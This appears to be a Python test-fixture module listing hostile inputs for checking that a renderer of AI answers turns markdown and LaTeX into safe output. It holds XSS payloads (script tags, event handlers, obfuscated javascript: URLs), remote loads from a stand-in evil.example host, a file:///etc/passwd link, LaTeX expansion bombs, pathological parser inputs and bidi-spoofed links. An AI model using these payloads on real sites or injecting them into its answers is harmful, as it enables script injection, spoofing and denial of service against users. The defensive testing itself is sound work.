"""Markdown that means harm: what answers may hold once somebody else's words have got into the conversation.

Grouped by what each is after. Nothing in them may ever become more than text, a checked link or a formula."""

from __future__ import annotations

import itertools

RAN = "window.hacked=1"

TAGS = (
    f"<script>{RAN}</script>",
    f"<script src=//evil.example/x.js></script><ScRiPt>{RAN}</sCrIpT>",
    f"<img src=x onerror={RAN}>",
    f"<img/src=`x`onerror={RAN}//",
    f"<svg/onload={RAN}>",
    f"<svg><animate onbegin={RAN} attributeName=x dur=1s></svg>",
    f"<svg><script>{RAN}</script></svg>",
    f"<svg><a xlink:href='javascript:{RAN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RAN}/>#x'></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RAN}>",
    f"<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:{RAN}'>x</maction></math>",
    f"<math href='javascript:{RAN}'>x</math>",
    f"<iframe src='javascript:{RAN}'></iframe>",
    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
    f"<object data='javascript:{RAN}'></object><embed src='javascript:{RAN}'>",
    "<style>@import '//evil.example/x.css'; * { display: none }</style>",
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RAN}'>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>",
    f"<input autofocus onfocus={RAN}><select autofocus onfocus={RAN}><textarea autofocus onfocus={RAN}>",
    f"<details open ontoggle={RAN}><summary>x</summary></details>",
    f"<video><source onerror={RAN}></video><audio src=x onerror={RAN}>",
    f"<marquee onstart={RAN}>x</marquee><body onload={RAN}>",
    f"<div style='position:fixed;inset:0;background:url(//evil.example/t)' onclick={RAN}>x</div>",
    f"<a href='javascript:{RAN}'>x</a><a href=//evil.example ping=//evil.example/ping>x</a>",
    f"<template><script>{RAN}</script></template><noscript><p title='</noscript><img src=x onerror={RAN}>'>",
    f"<x-custom is=x onclick={RAN}>x</x-custom><slot onslotchange={RAN}></slot>",
    f"<!--><script>{RAN}</script>--><![CDATA[<script>{RAN}</script>]]><?php x ?><!DOCTYPE x>",
    f"<p title='`<img src=x onerror={RAN}>`'>",
    f"<textarea></textarea><img src=x onerror={RAN}></textarea>",
    f"<xmp><img alt='</xmp><img src=x onerror={RAN}>'></xmp><plaintext>",
    f"<table><td background=//evil.example/t><tr onmouseover={RAN}></table>",
)

# What a tag can be put inside of; `{}` is its place.
AROUND = (
    "{}",
    "a {} b",
    "- {}\n  - {}",
    "> {}\n\n{}",
    "| {} |\n|---|\n| {} |",
    "# {}\n\n**{}** `{}`",
    "[{}]({})\n\n![{}](x)",
)

ADDRESSES = (
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f" javascript:{RAN}",
    f"\x01javascript:{RAN}",
    f"java\tscript:{RAN}",
    f"java&#10;script:{RAN}",
    f"java&Tab;script&colon;{RAN}",
    f"&#106;avascript:{RAN}",
    f"&#x6A&#x61vascript:{RAN}",
    f"javascript&#58;{RAN}",
    f"javascript&#0000058{RAN}",
    f"java%73cript:{RAN}",
    f"\u202ejavascript:{RAN}",
    f"java\u200bscript:{RAN}",
    f"javascript://example.com/%0a{RAN}",
    f"vbscript:{RAN}",
    f"livescript:{RAN}",
    f"data:text/html,<script>{RAN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={RAN}>",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/api/cancel",
    "?x=1",
    "#app",
    "view-source:https://evil.example",
    "intent://x#Intent;end",
    "ms-word:ofe|u|https://evil.example",
    "chrome://settings",
    "about:blank",
    "ws://evil.example/",
    "http:evil.example",
    "https://user:pass@evil.example/",
    "https://evil.example\\@good.example/",
    "mailto:a@b.example?subject=x%0aBcc:c@d.example",
)

AS_LINKS = ("[x]({})", "[x](<{}>)", '![x]({} "t")', "<{}>", "[x][r]\n\n[r]: {}\n", "x[^1]\n\n[^1]: [y]({})\n")

ATTRIBUTE_BREAKERS = (
    f'[x](https://a.example/"onmouseover="{RAN})',
    f"[x](https://a.example 'onclick={RAN}')",
    f'![x" onerror="{RAN}](https://a.example/p.png)',
    f'```"><img src=x onerror={RAN}>\ncode\n```',
    f"```js onload={RAN}\n</code></pre><script>{RAN}</script>\n```",
    f"~~~html\n<script>{RAN}</script>\n~~~",
    f"`</code><img src=x onerror={RAN}>`",
    f"1. [x]: <script>{RAN}</script>\n2. [y](javascript:{RAN})",
    f"[^<img src=x onerror={RAN}>] [^x]\n\n[^x]: <script>{RAN}</script>",
    f"&lt;img src=x onerror={RAN}&gt; &#60;script&#62;{RAN}&#60;/script&#62;",
    f"\\<script>{RAN}\\</script>",
    f"<https://a.example/<script>{RAN}</script>>",
    f"https://a.example/'onclick='{RAN}' www.evil.example/\"x",
)

PROTOTYPE_NAMES = tuple(
    template.replace("NAME", name)
    for name in ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty")
    for template in (
        "[x][NAME] [NAME]\n\n[NAME]: https://a.example\n",
        "a[^NAME] b[^hasOwnProperty]\n\n[^NAME]: note\n",
        "```NAME\nx = 1\n```",
        "&NAME; $\\NAME$ $\\begin{NAME}x\\end{NAME}$",
    )
)

LATEX = (
    f"$\\href{{javascript:{RAN}}}{{x}}$",
    "\\(\\url{https://evil.example/x}\\)",
    "$$\\includegraphics[width=1em]{https://evil.example/t.png}$$",
    "$\\class{btn}{x}$ $\\id{app}{x}$ $\\cssId{app}{x}$",
    "$\\style{position:fixed;inset:0;background:red}{x}$",
    f"$\\data{{x=1}}{{y}}$ $\\htmlData{{onclick={RAN}}}{{x}}$ $\\htmlClass{{a}}{{x}}$",
    f"$\\text{{<img src=x onerror={RAN}>}}$ $<script>{RAN}</script>$",
    f"$\\unicode{{x}}$ $\\require{{html}}$ $\\special{{html:<script>{RAN}</script>}}$",
    "$\\color{red;position:fixed}x$ $\\color{url(//evil.example/x)}x$ $\\colorbox{#fff;}{x}$",
    "$\\rule{9999em}{9999em}$ $\\hspace{-9999em}x$ $\\kern999999pt x$ $\\raisebox{9999em}{x}$",
    "$\\rule{1e99em}{1em}$ $\\rule{-50em}{1em}$ $\\Huge\\Huge\\Huge x$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\def\\a{xxxxxxxxxx}\\def\\b{\\a\\a\\a\\a\\a\\a\\a\\a\\a\\a}\\def\\c{\\b\\b\\b\\b\\b\\b\\b\\b\\b\\b}\\c\\c\\c\\c\\c\\c$",
    "$\\newcommand{\\x}[1]{#1#1#1#1}\\x{\\x{\\x{\\x{\\x{\\x{\\x{\\x{y}}}}}}}}$",
    "$\\def\\a{" + "x" * 550 + "}" + "\\a" * 30 + "$",
    "$\\gdef\\frac{\\href{javascript:x}}$ then $\\frac{1}{2}$",
    "$\\let\\sqrt\\includegraphics \\sqrt{https://evil.example}$",
    "$\\edef\\x{\\noexpand\\x}\\x$ $\\futurelet\\x\\y\\z$ $\\expandafter\\a\\csname x\\endcsname$",
    "$" + "{" * 2000 + "x" + "}" * 2000 + "$",
    "$" + "\\frac{1}{" * 400 + "x" + "}" * 400 + "$",
    "$" + "\\sqrt{" * 700 + "x" + "}" * 700 + "$",
    "$" + "x^{" * 1200 + "y" + "}" * 1200 + "$",
    "$" + "\\left(" * 600 + "x" + "\\right)" * 300 + "$",
    "$$\\begin{matrix}" + "a&" * 2000 + "\\end{matrix}$$",
    "$$" + "\\begin{matrix}" * 200 + "x" + "\\end{matrix}" * 200 + "$$",
    "$$\\begin{array}{" + "c|" * 2000 + "}x\\end{array}$$",
    "$" + "x+" * 2400 + "y$",
    "$" + "\\overline{\\hat{" * 200 + "x" + "}}" * 200 + "$",
    "\\(" * 4000,
    "$$" * 4001,
    "$x" * 5000,
    "\\[\\begin{aligned}" + "\\\\" * 2000 + "\\end{aligned}\\]",
    "$\\tag{1}\\label{__proto__}\\ref{constructor}$ $\\verb|<script>|$",
    "$\\bordermatrix{a\\cr b}$ $\\begin{CD}A@>>>B\\end{CD}$ $\\sideset{}{'}\\sum$ $\\ce{H2O}$",
)


def _repeated(unit: str, size: int = 24_000) -> str:
    return unit * (size // len(unit))


EXPENSIVE = (
    *(
        _repeated(unit)
        for unit in (
            *(
                "*a ",
                "**a",
                "_a_",
                "a_b_",
                "[",
                "[a](",
                "![[]()",
                "]",
                "`a",
                "<",
                "<a ",
                "<!--",
                "<a href='",
                "&",
                "&#x41;",
            ),
            *(
                "\\",
                "\\*",
                "~a~~",
                "~",
                "a@",
                "a",
                "http://",
                "www.",
                "<http://a> ",
                "> ",
                ">\n",
                "- > ",
                "- a\n",
                "1. ",
            ),
            *("|a", "|x|y|\n", "\n", "\t", " ", "\n ", "\r", "# a\n", "a\n# b\n", "[a]: b\n", "[a] ", "a\n-\n", "a\n="),
            *(
                "```\na\n",
                "<div>\n",
                "*_`[<&\\$~",
                "[^a]",
                "[^a]: b\n",
                "$a",
                "\\(a ",
                "\\[\n",
                "a  \n",
                "![a](b)",
                "    a\n",
            ),
            *("\u202e\u2066a\u2069", "\0", "\ufffe", "\U0001f600\u200d", "\u0301", "e\u0301\u0301\u0301"),
        )
    ),
    "|a|b|\n|-|-|\n" + _repeated("|x|y|\n"),
    _repeated("|a", 2000) + "|\n" + _repeated("|-", 2000) + "|\n",
    "\n".join(" " * (2 * depth) + "- a" for depth in range(150)),
    "\n".join(">" * depth + " a" for depth in range(150)),
    "".join("`" * run + " " for run in range(200)),
    "a" + " " * 24_000 + "b",
    "[^a]: b\n" + " " * 24_000,
    "**" * 3000 + "a" + "**" * 3000,
    "[" * 3000 + "a" + "](b)" * 3000,
)

UNTERMINATED = tuple(
    f"before {start}\n\nafter"
    for start in (
        *(
            "```",
            "~~~js",
            "`",
            "**",
            "~~",
            "[x](",
            "[x](<",
            '[x](a "',
            "![x",
            "<a href=",
            "<!--",
            "<script>",
            "<![CDATA[",
        ),
        *(
            "\\(",
            "\\[",
            "$$",
            "$x",
            "[^1",
            "[^1]:",
            "[r]:",
            "|a|\n|-",
            "&#",
            "&#x",
            "<https://a.example",
            "$\\frac{",
            "\\",
        ),
    )
)

BIDI = tuple(
    template.replace("{}", sign)
    for sign in ("\u202e", "\u202d", "\u2066", "\u2067", "\u200f")
    for template in (
        "[safe.example{}](https://evil.example/)",
        "`{}code`  {}text",
        "| {}a | b |\n|---|---|\n| c | {}d |",
    )
)

HOSTILE: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(around.replace("{}", tag) for tag, around in zip(TAGS, itertools.cycle(AROUND), strict=False)),
            *TAGS,
            *(link.replace("{}", address) for address, link in zip(ADDRESSES, itertools.cycle(AS_LINKS), strict=False)),
            *(f"[x]({address}) and <{address}>" for address in ADDRESSES),
            *ATTRIBUTE_BREAKERS,
            *PROTOTYPE_NAMES,
            *LATEX,
            *EXPENSIVE,
            *UNTERMINATED,
            *BIDI,
        )
    )
)
